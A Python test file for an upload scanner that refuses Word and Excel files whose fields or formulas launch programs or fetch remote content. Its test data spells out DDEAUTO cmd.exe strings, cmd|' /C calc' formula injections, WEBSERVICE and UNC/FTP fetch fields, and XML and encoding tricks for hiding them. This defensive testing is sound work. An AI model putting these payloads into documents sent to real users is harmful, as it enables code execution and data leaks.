"""Fields and formulas: those that start programs or fetch from elsewhere are refused, the ordinary ones are taken."""

from __future__ import annotations

import tracemalloc
from collections.abc import Iterable
from time import process_time
from xml.sax.saxutils import escape, quoteattr

import pytest

from services.intake.adapters import file_fields
from services.intake.adapters.files import MEDIA_TYPES, FileRefused, inspect
from services.policy.form import MAX_ATTACHMENT_BYTES, Attachments
from tests.unit.intake import corpus
from tests.unit.intake.corpus import archive, content_types, office_parts, relationship, with_part

RULE = Attachments(max_bytes_exclusive=MAX_ATTACHMENT_BYTES, extensions=tuple(MEDIA_TYPES))
UNSAFE = "file-unsafe"
SHEET = "xl/worksheets/sheet1.xml"
BEGIN, MIDDLE, END = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="separate"/>',
                      '<w:fldChar w:fldCharType="end"/>')  # fmt: skip


def slug(data: bytes, name: str = "a.docx") -> str:
    """The slug of the refusal; empty if the file is taken."""
    verdict = inspect(data, name, RULE)
    return verdict.slug if isinstance(verdict, FileRefused) else ""


def word(body: str, *, part: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    """A document with this body, or with this in another part of it."""
    xml = f'<?xml version="1.0" encoding="{encoding}"?><w:document xmlns:w="w">{body}</w:document>'
    return archive(office_parts() | {part: xml.encode(encoding)})


def run(code: str) -> str:
    """A run with a piece of a field's code."""
    return f"<w:r><w:instrText>{escape(code)}</w:instrText></w:r>"


def field(*codes: str) -> str:
    """A field whose code is spread over runs."""
    return BEGIN + "".join(map(run, codes)) + MIDDLE + "<w:r><w:t>shown</w:t></w:r>" + END


def sheet(formula: str, *, element: str = "f") -> bytes:
    """A workbook with this formula."""
    cell = f'<worksheet><c r="A1"><{element}>{escape(formula)}</{element}><v>0</v></c></worksheet>'
    return archive(office_parts("xlsx") | {SHEET: cell.encode()})


HARMFUL = [
    r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
    r' dde  Excel "a.xls" R1C1 ',
    r'"DDEAUTO" cmd "/c calc"',
    r'INCLUDEPICTURE "http://a.example/x.png" \d',
    "includepicture https://a.example/x.png",
    r'INCLUDEPICTURE "\\\\a.example\\share\\x.png"',
    r"INCLUDETEXT \\a.example\x.docx",
    r"INCLUDETEXT “//a.example/x.docx”",
    r'INCLUDETEXT "file://a.example/x.docx"',
    r'LINK Excel.Sheet.12 "https://a.example/x.xlsx" "S!R1C1" \a',
    r"IMPORT ftp:\\a.example\x.png",
]
ORDINARY = [
    "PAGE",
    r'TOC \o "1-3" \h \z \u',
    r'HYPERLINK "https://a.example/DDEAUTO" \l "x"',
    r"PAGEREF _Toc1 \h",
    r'INCLUDEPICTURE "C:\\Users\\an\\Pictures\\a b.png" \* MERGEFORMATINET',
    r'INCLUDEPICTURE "file:///C:\\Users\\an\\msohtmlclip1\\01\\clip_image001.png" \* MERGEFORMATINET',
    r'INCLUDEPICTURE "cid:image001.png@01D0" \* MERGEFORMATINET',
    r"INCLUDEPICTURE C:/Users/an/a.png",
    r'LINK Excel.Sheet.12 "So sanh.xlsx" "Sheet1!R1C1" \a \f 5 \h',
    "= 1 + 2",
    "DDEADLINE",
    "",
]


@pytest.mark.parametrize("code", HARMFUL)
def test_a_field_that_starts_a_program_or_fetches_is_refused_however_it_is_written(code: str) -> None:
    assert slug(word(field(code))) == UNSAFE
    assert slug(word(field(*code))) == UNSAFE
    assert slug(word(f"<w:fldSimple w:instr={quoteattr(code)}/>")) == UNSAFE
    assert slug(word(BEGIN + run(code))) == UNSAFE
    assert slug(word(run(code))) == UNSAFE
    assert slug(word(BEGIN + run(code) + END)) == UNSAFE


@pytest.mark.parametrize("code", ORDINARY)
def test_an_ordinary_field_is_taken(code: str) -> None:
    assert slug(word(field(code) + f"<w:fldSimple w:instr={quoteattr(code)}/>" + field(*code))) == ""


def test_codes_of_fields_that_follow_each_other_are_not_one_code() -> None:
    assert slug(word(field("DDE") + "<w:p/>")) == UNSAFE
    assert slug(word(field("TOC") + field("PAGE") + "<w:t>DDEAUTO cmd | INCLUDEPICTURE</w:t>")) == ""


@pytest.mark.parametrize("part", ["word/header1.xml", "word/footnotes.xml", "word/media/image1.png", "word/glossary/a"])
def test_fields_are_looked_for_in_every_part(part: str) -> None:
    assert slug(word(field("DDEAUTO cmd"), part=part)) == UNSAFE
    assert slug(word(field("PAGE"), part=part)) == ""


def test_a_field_in_the_code_of_another_may_neither_hide_nor_make_up_what_is_fetched() -> None:
    inner = field('QUOTE "x"')
    assert slug(word(BEGIN + run("DD") + inner + run("EAUTO cmd") + MIDDLE + END)) == UNSAFE
    assert slug(word(BEGIN + run("INCLUDEPICTURE ") + inner + MIDDLE + END)) == UNSAFE
    assert slug(word(BEGIN + run("IF ") + field("DDE cmd") + MIDDLE + END)) == UNSAFE
    assert slug(word(BEGIN + run("= ") + field("PAGE") + run(" - 1") + MIDDLE + END)) == ""


def test_a_picture_shown_inside_the_result_of_another_is_taken() -> None:
    code = r'INCLUDEPICTURE "cid:a.png" \* MERGEFORMATINET'
    assert slug(word(BEGIN + run(code) + MIDDLE + field(code) + END)) == ""


@pytest.mark.parametrize(
    "xml",
    [
        "<x:instrText xmlns:x='w'>DDEAUTO cmd</x:instrText>",
        "<instrText>DDEAUTO cmd</instrText>",
        "<w:instrText a='>'>DDEAUTO cmd</w:instrText>",
        "<w:instrText><!-- < -->DDE<![CDATA[AUTO]]> cmd</w:instrText>",
        "<w:instrText>&#68;&#x44;EAUTO cmd</w:instrText>",
        "<w:instrText\n>DDE</w:instrText ><w:r/><w:instrText>AUTO cmd</w:instrText>",
    ],
)
def test_the_ways_of_xml_hide_no_field(xml: str) -> None:
    assert slug(word(xml)) == UNSAFE


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "iso-8859-1", "cp037", "utf-7", "no-such"])
def test_another_encoding_hides_no_field(encoding: str) -> None:
    name = "utf-16" if encoding.startswith("utf-16") else encoding
    start = f'<?xml version="1.0"{" " * 600}encoding="{name}"?>'
    body = f'<w:document xmlns:w="w">{field("DDEAUTO cmd")}</w:document>'
    xml = (start + body).encode(encoding) if name in {"utf-16", "iso-8859-1"} else start.encode() + b"\x4c"
    assert slug(archive(office_parts() | {"word/document.xml": xml})) == UNSAFE


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "us-ascii"])
def test_ordinary_fields_are_taken_in_any_encoding(encoding: str) -> None:
    assert slug(word(field("PAGE"), encoding=encoding)) == ""


def test_entities_hide_no_field() -> None:
    body = '<!DOCTYPE a [<!ENTITY x "&#60;instrText>DDEAUTO cmd&#60;/instrText>">]><a>&x;</a>'
    assert slug(with_part("word/a.xml", body.encode())) == UNSAFE
    assert slug(with_part("word/media/a.svg", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>')) == ""


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "'cmd'|'/C calc'!A0",
        "MSEXCEL|'..\\cmd.exe'!''",
        "IF(A1=\"|\",1,cmd|'/C calc'!A0)",
        "'a\"b'!A1+cmd|'/C calc'!A0&\"x\"",
        'T[a"b]+cmd|\'/C calc\'!A0&"x"',
        "T['#]+cmd|'!/C calc'!A0",
        "'it''s'!A1+cmd|'/C calc'!A0",
        'DDE("soffice";"a.ods";"A1")',
        'dde ("cmd";"/c calc";"x")',
        '_xlfn.WEBSERVICE("https://a.example/?"&A1)',
        'RTD("prog.id",,"x")',
    ],
)
@pytest.mark.parametrize("element", ["f", "x:f", "formula1", "definedName"])
def test_a_formula_that_starts_a_program_or_fetches_is_refused(formula: str, element: str) -> None:
    assert slug(sheet(formula, element=element), "a.xlsx") == UNSAFE


@pytest.mark.parametrize(
    "formula",
    [
        'A1&"|"&Data!B1',
        "'a|b'!A1",
        "'it''s a|b'!A1",
        "SUM(Table1[Giá '[VND'] | cũ])&\"|\"",
        'HYPERLINK("https://a.example/x|y","DDE(x)")',
        'ADDED("x")',
        "SUM(A1:A3)",
    ],
)
def test_an_ordinary_formula_is_taken(formula: str) -> None:
    assert slug(sheet(formula), "a.xlsx") == ""


def test_a_bar_outside_of_formulas_means_nothing() -> None:
    cells = "<sst><si><t>cmd|' /C calc'!A0</t></si><si><t>DDE(x)</t></si></sst>"
    assert slug(archive(office_parts("xlsx") | {"xl/sharedStrings.xml": cells.encode()}), "a.xlsx") == ""
    fraction = "<m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f>"
    assert slug(word(fraction)) == ""
    assert slug(with_part("word/media/image1.png", b"\x89PNG |&#instrText")) == ""


def test_links_between_programs_are_refused_by_element_relation_and_content_type() -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    parts = office_parts("xlsx")
    assert slug(archive(parts | {"xl/a.xml": link.encode()}), "a.xlsx") == UNSAFE
    assert (
        slug(archive(parts | {"xl/_rels/workbook.xml.rels": relationship("externalLink", "a.xml")}), "a.xlsx") == UNSAFE
    )
    kind = f"{corpus.OFFICE}.spreadsheetml.externalLink+xml"
    types = content_types((corpus.MAIN["xlsx"][0], corpus.MAIN["xlsx"][1]), ("xl/a.xml", kind))
    assert slug(archive(parts | {"[Content_Types].xml": types, "xl/a.xml": b"<a/>"}), "a.xlsx") == UNSAFE


def test_a_part_that_breaks_off_is_looked_at_up_to_there() -> None:
    assert slug(with_part("xl/drawings/vmlDrawing1.vml", b"<xml><br>a|b</xml>")) == ""
    assert slug(with_part("xl/worksheets/a.xml", b"<a><f>cmd|'x'!A0</f><b></a>")) == UNSAFE


def test_a_part_with_fields_that_is_too_long_to_be_read_is_refused() -> None:
    noise = {"word/noise": corpus.noise(600_000)}
    few, many = b"<a/>" * 900_000, b"<a/>" * 1_000_001
    for start, expected in ((b"<r>|", UNSAFE), (b"<r>", "")):
        assert slug(archive(office_parts() | noise | {"word/a.xml": start + few + b"</r>"})) == ""
        assert slug(archive(office_parts() | noise | {"word/a.xml": start + many + b"</r>"})) == expected
        assert slug(archive(office_parts() | noise | {"word/a.xml": start + b" " * 17_000_000 + b"</r>"})) == expected


def test_more_formulas_than_can_be_read_in_time_are_refused() -> None:
    noise = {"xl/noise": corpus.noise(600_000)}
    for count, expected in ((300_000, ""), (300_001, UNSAFE)):
        cells = b"<r>" + b"<f>A1&#10;</f>" * count + b"</r>"
        assert slug(archive(office_parts("xlsx") | noise | {SHEET: cells}), "a.xlsx") == expected


def test_a_code_or_formula_without_end_is_refused() -> None:
    assert slug(sheet(f'"|{"x" * 32_000}"'), "a.xlsx") == ""
    assert slug(sheet(f'"|{"x" * 33_000}"'), "a.xlsx") == UNSAFE
    assert slug(word(BEGIN + run("A" * 20_000) * 2)) == UNSAFE


def test_words_are_found_across_the_steps_in_which_a_part_is_unpacked() -> None:
    def raised(pieces: Iterable[bytes]) -> bool:
        suspicion = file_fields.Suspicion()
        for piece in pieces:
            suspicion.look(piece)
        return suspicion.is_raised

    for text in (b"<a><w:instrText/></a>", b"<a><f>dde  (x)</f></a>", b'<?xml version="1.0" encoding="utf-16"?><a/>'):
        assert raised(text[at : at + 1] for at in range(len(text)))
    assert not raised([b"<a>", b"instr", b"x", b"Text</a>"])


HEAVY = {
    "elements": b"<r>|" + b"<a b=''/>" * 999_000 + b"</r>",
    "formulas": b"<r>" + b'<f>A&amp;"|"</f>' * 700_000 + b"</r>",
    "codes": b"<r>" + b"<instrText>A</instrText>" * 32_000 + b"</r>",
    "openings": b"<r>" + b'<fldChar fldCharType="begin"/>' * 500_000 + b"</r>",
    "quotes": b"<r>" + b"<f>|" + b"'" * 32_000 + b"</f></r>",
    "brackets": b"<r>" + b"<f>|" + b"['" * 16_000 + b"</f></r>",
    "slashes": b"<r><instrText>INCLUDETEXT " + b"/ " * 16_000 + b"</instrText></r>",
    "schemes": b"<r><instrText>INCLUDETEXT " + b"a" * 32_000 + b"</instrText></r>",
    "one tag": b"<r a='|" + b"x" * 15_900_000 + b"'/>",
}


def heavy_file(heavy: str) -> bytes:
    """A document with that part, within every limit of an archive."""
    return archive(office_parts() | {"word/noise": corpus.noise(600_000), "word/a.xml": HEAVY[heavy]})


@pytest.mark.parametrize("heavy", HEAVY)
def test_no_part_takes_long(heavy: str) -> None:
    data = heavy_file(heavy)
    started = process_time()
    inspect(data, "a.docx", RULE)
    assert process_time() - started < 1.5


@pytest.mark.parametrize("heavy", ["one tag", "codes", "brackets"])
def test_no_part_takes_much_memory(heavy: str) -> None:
    data = heavy_file(heavy)
    tracemalloc.start()
    try:
        inspect(data, "a.docx", RULE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 100_000_000
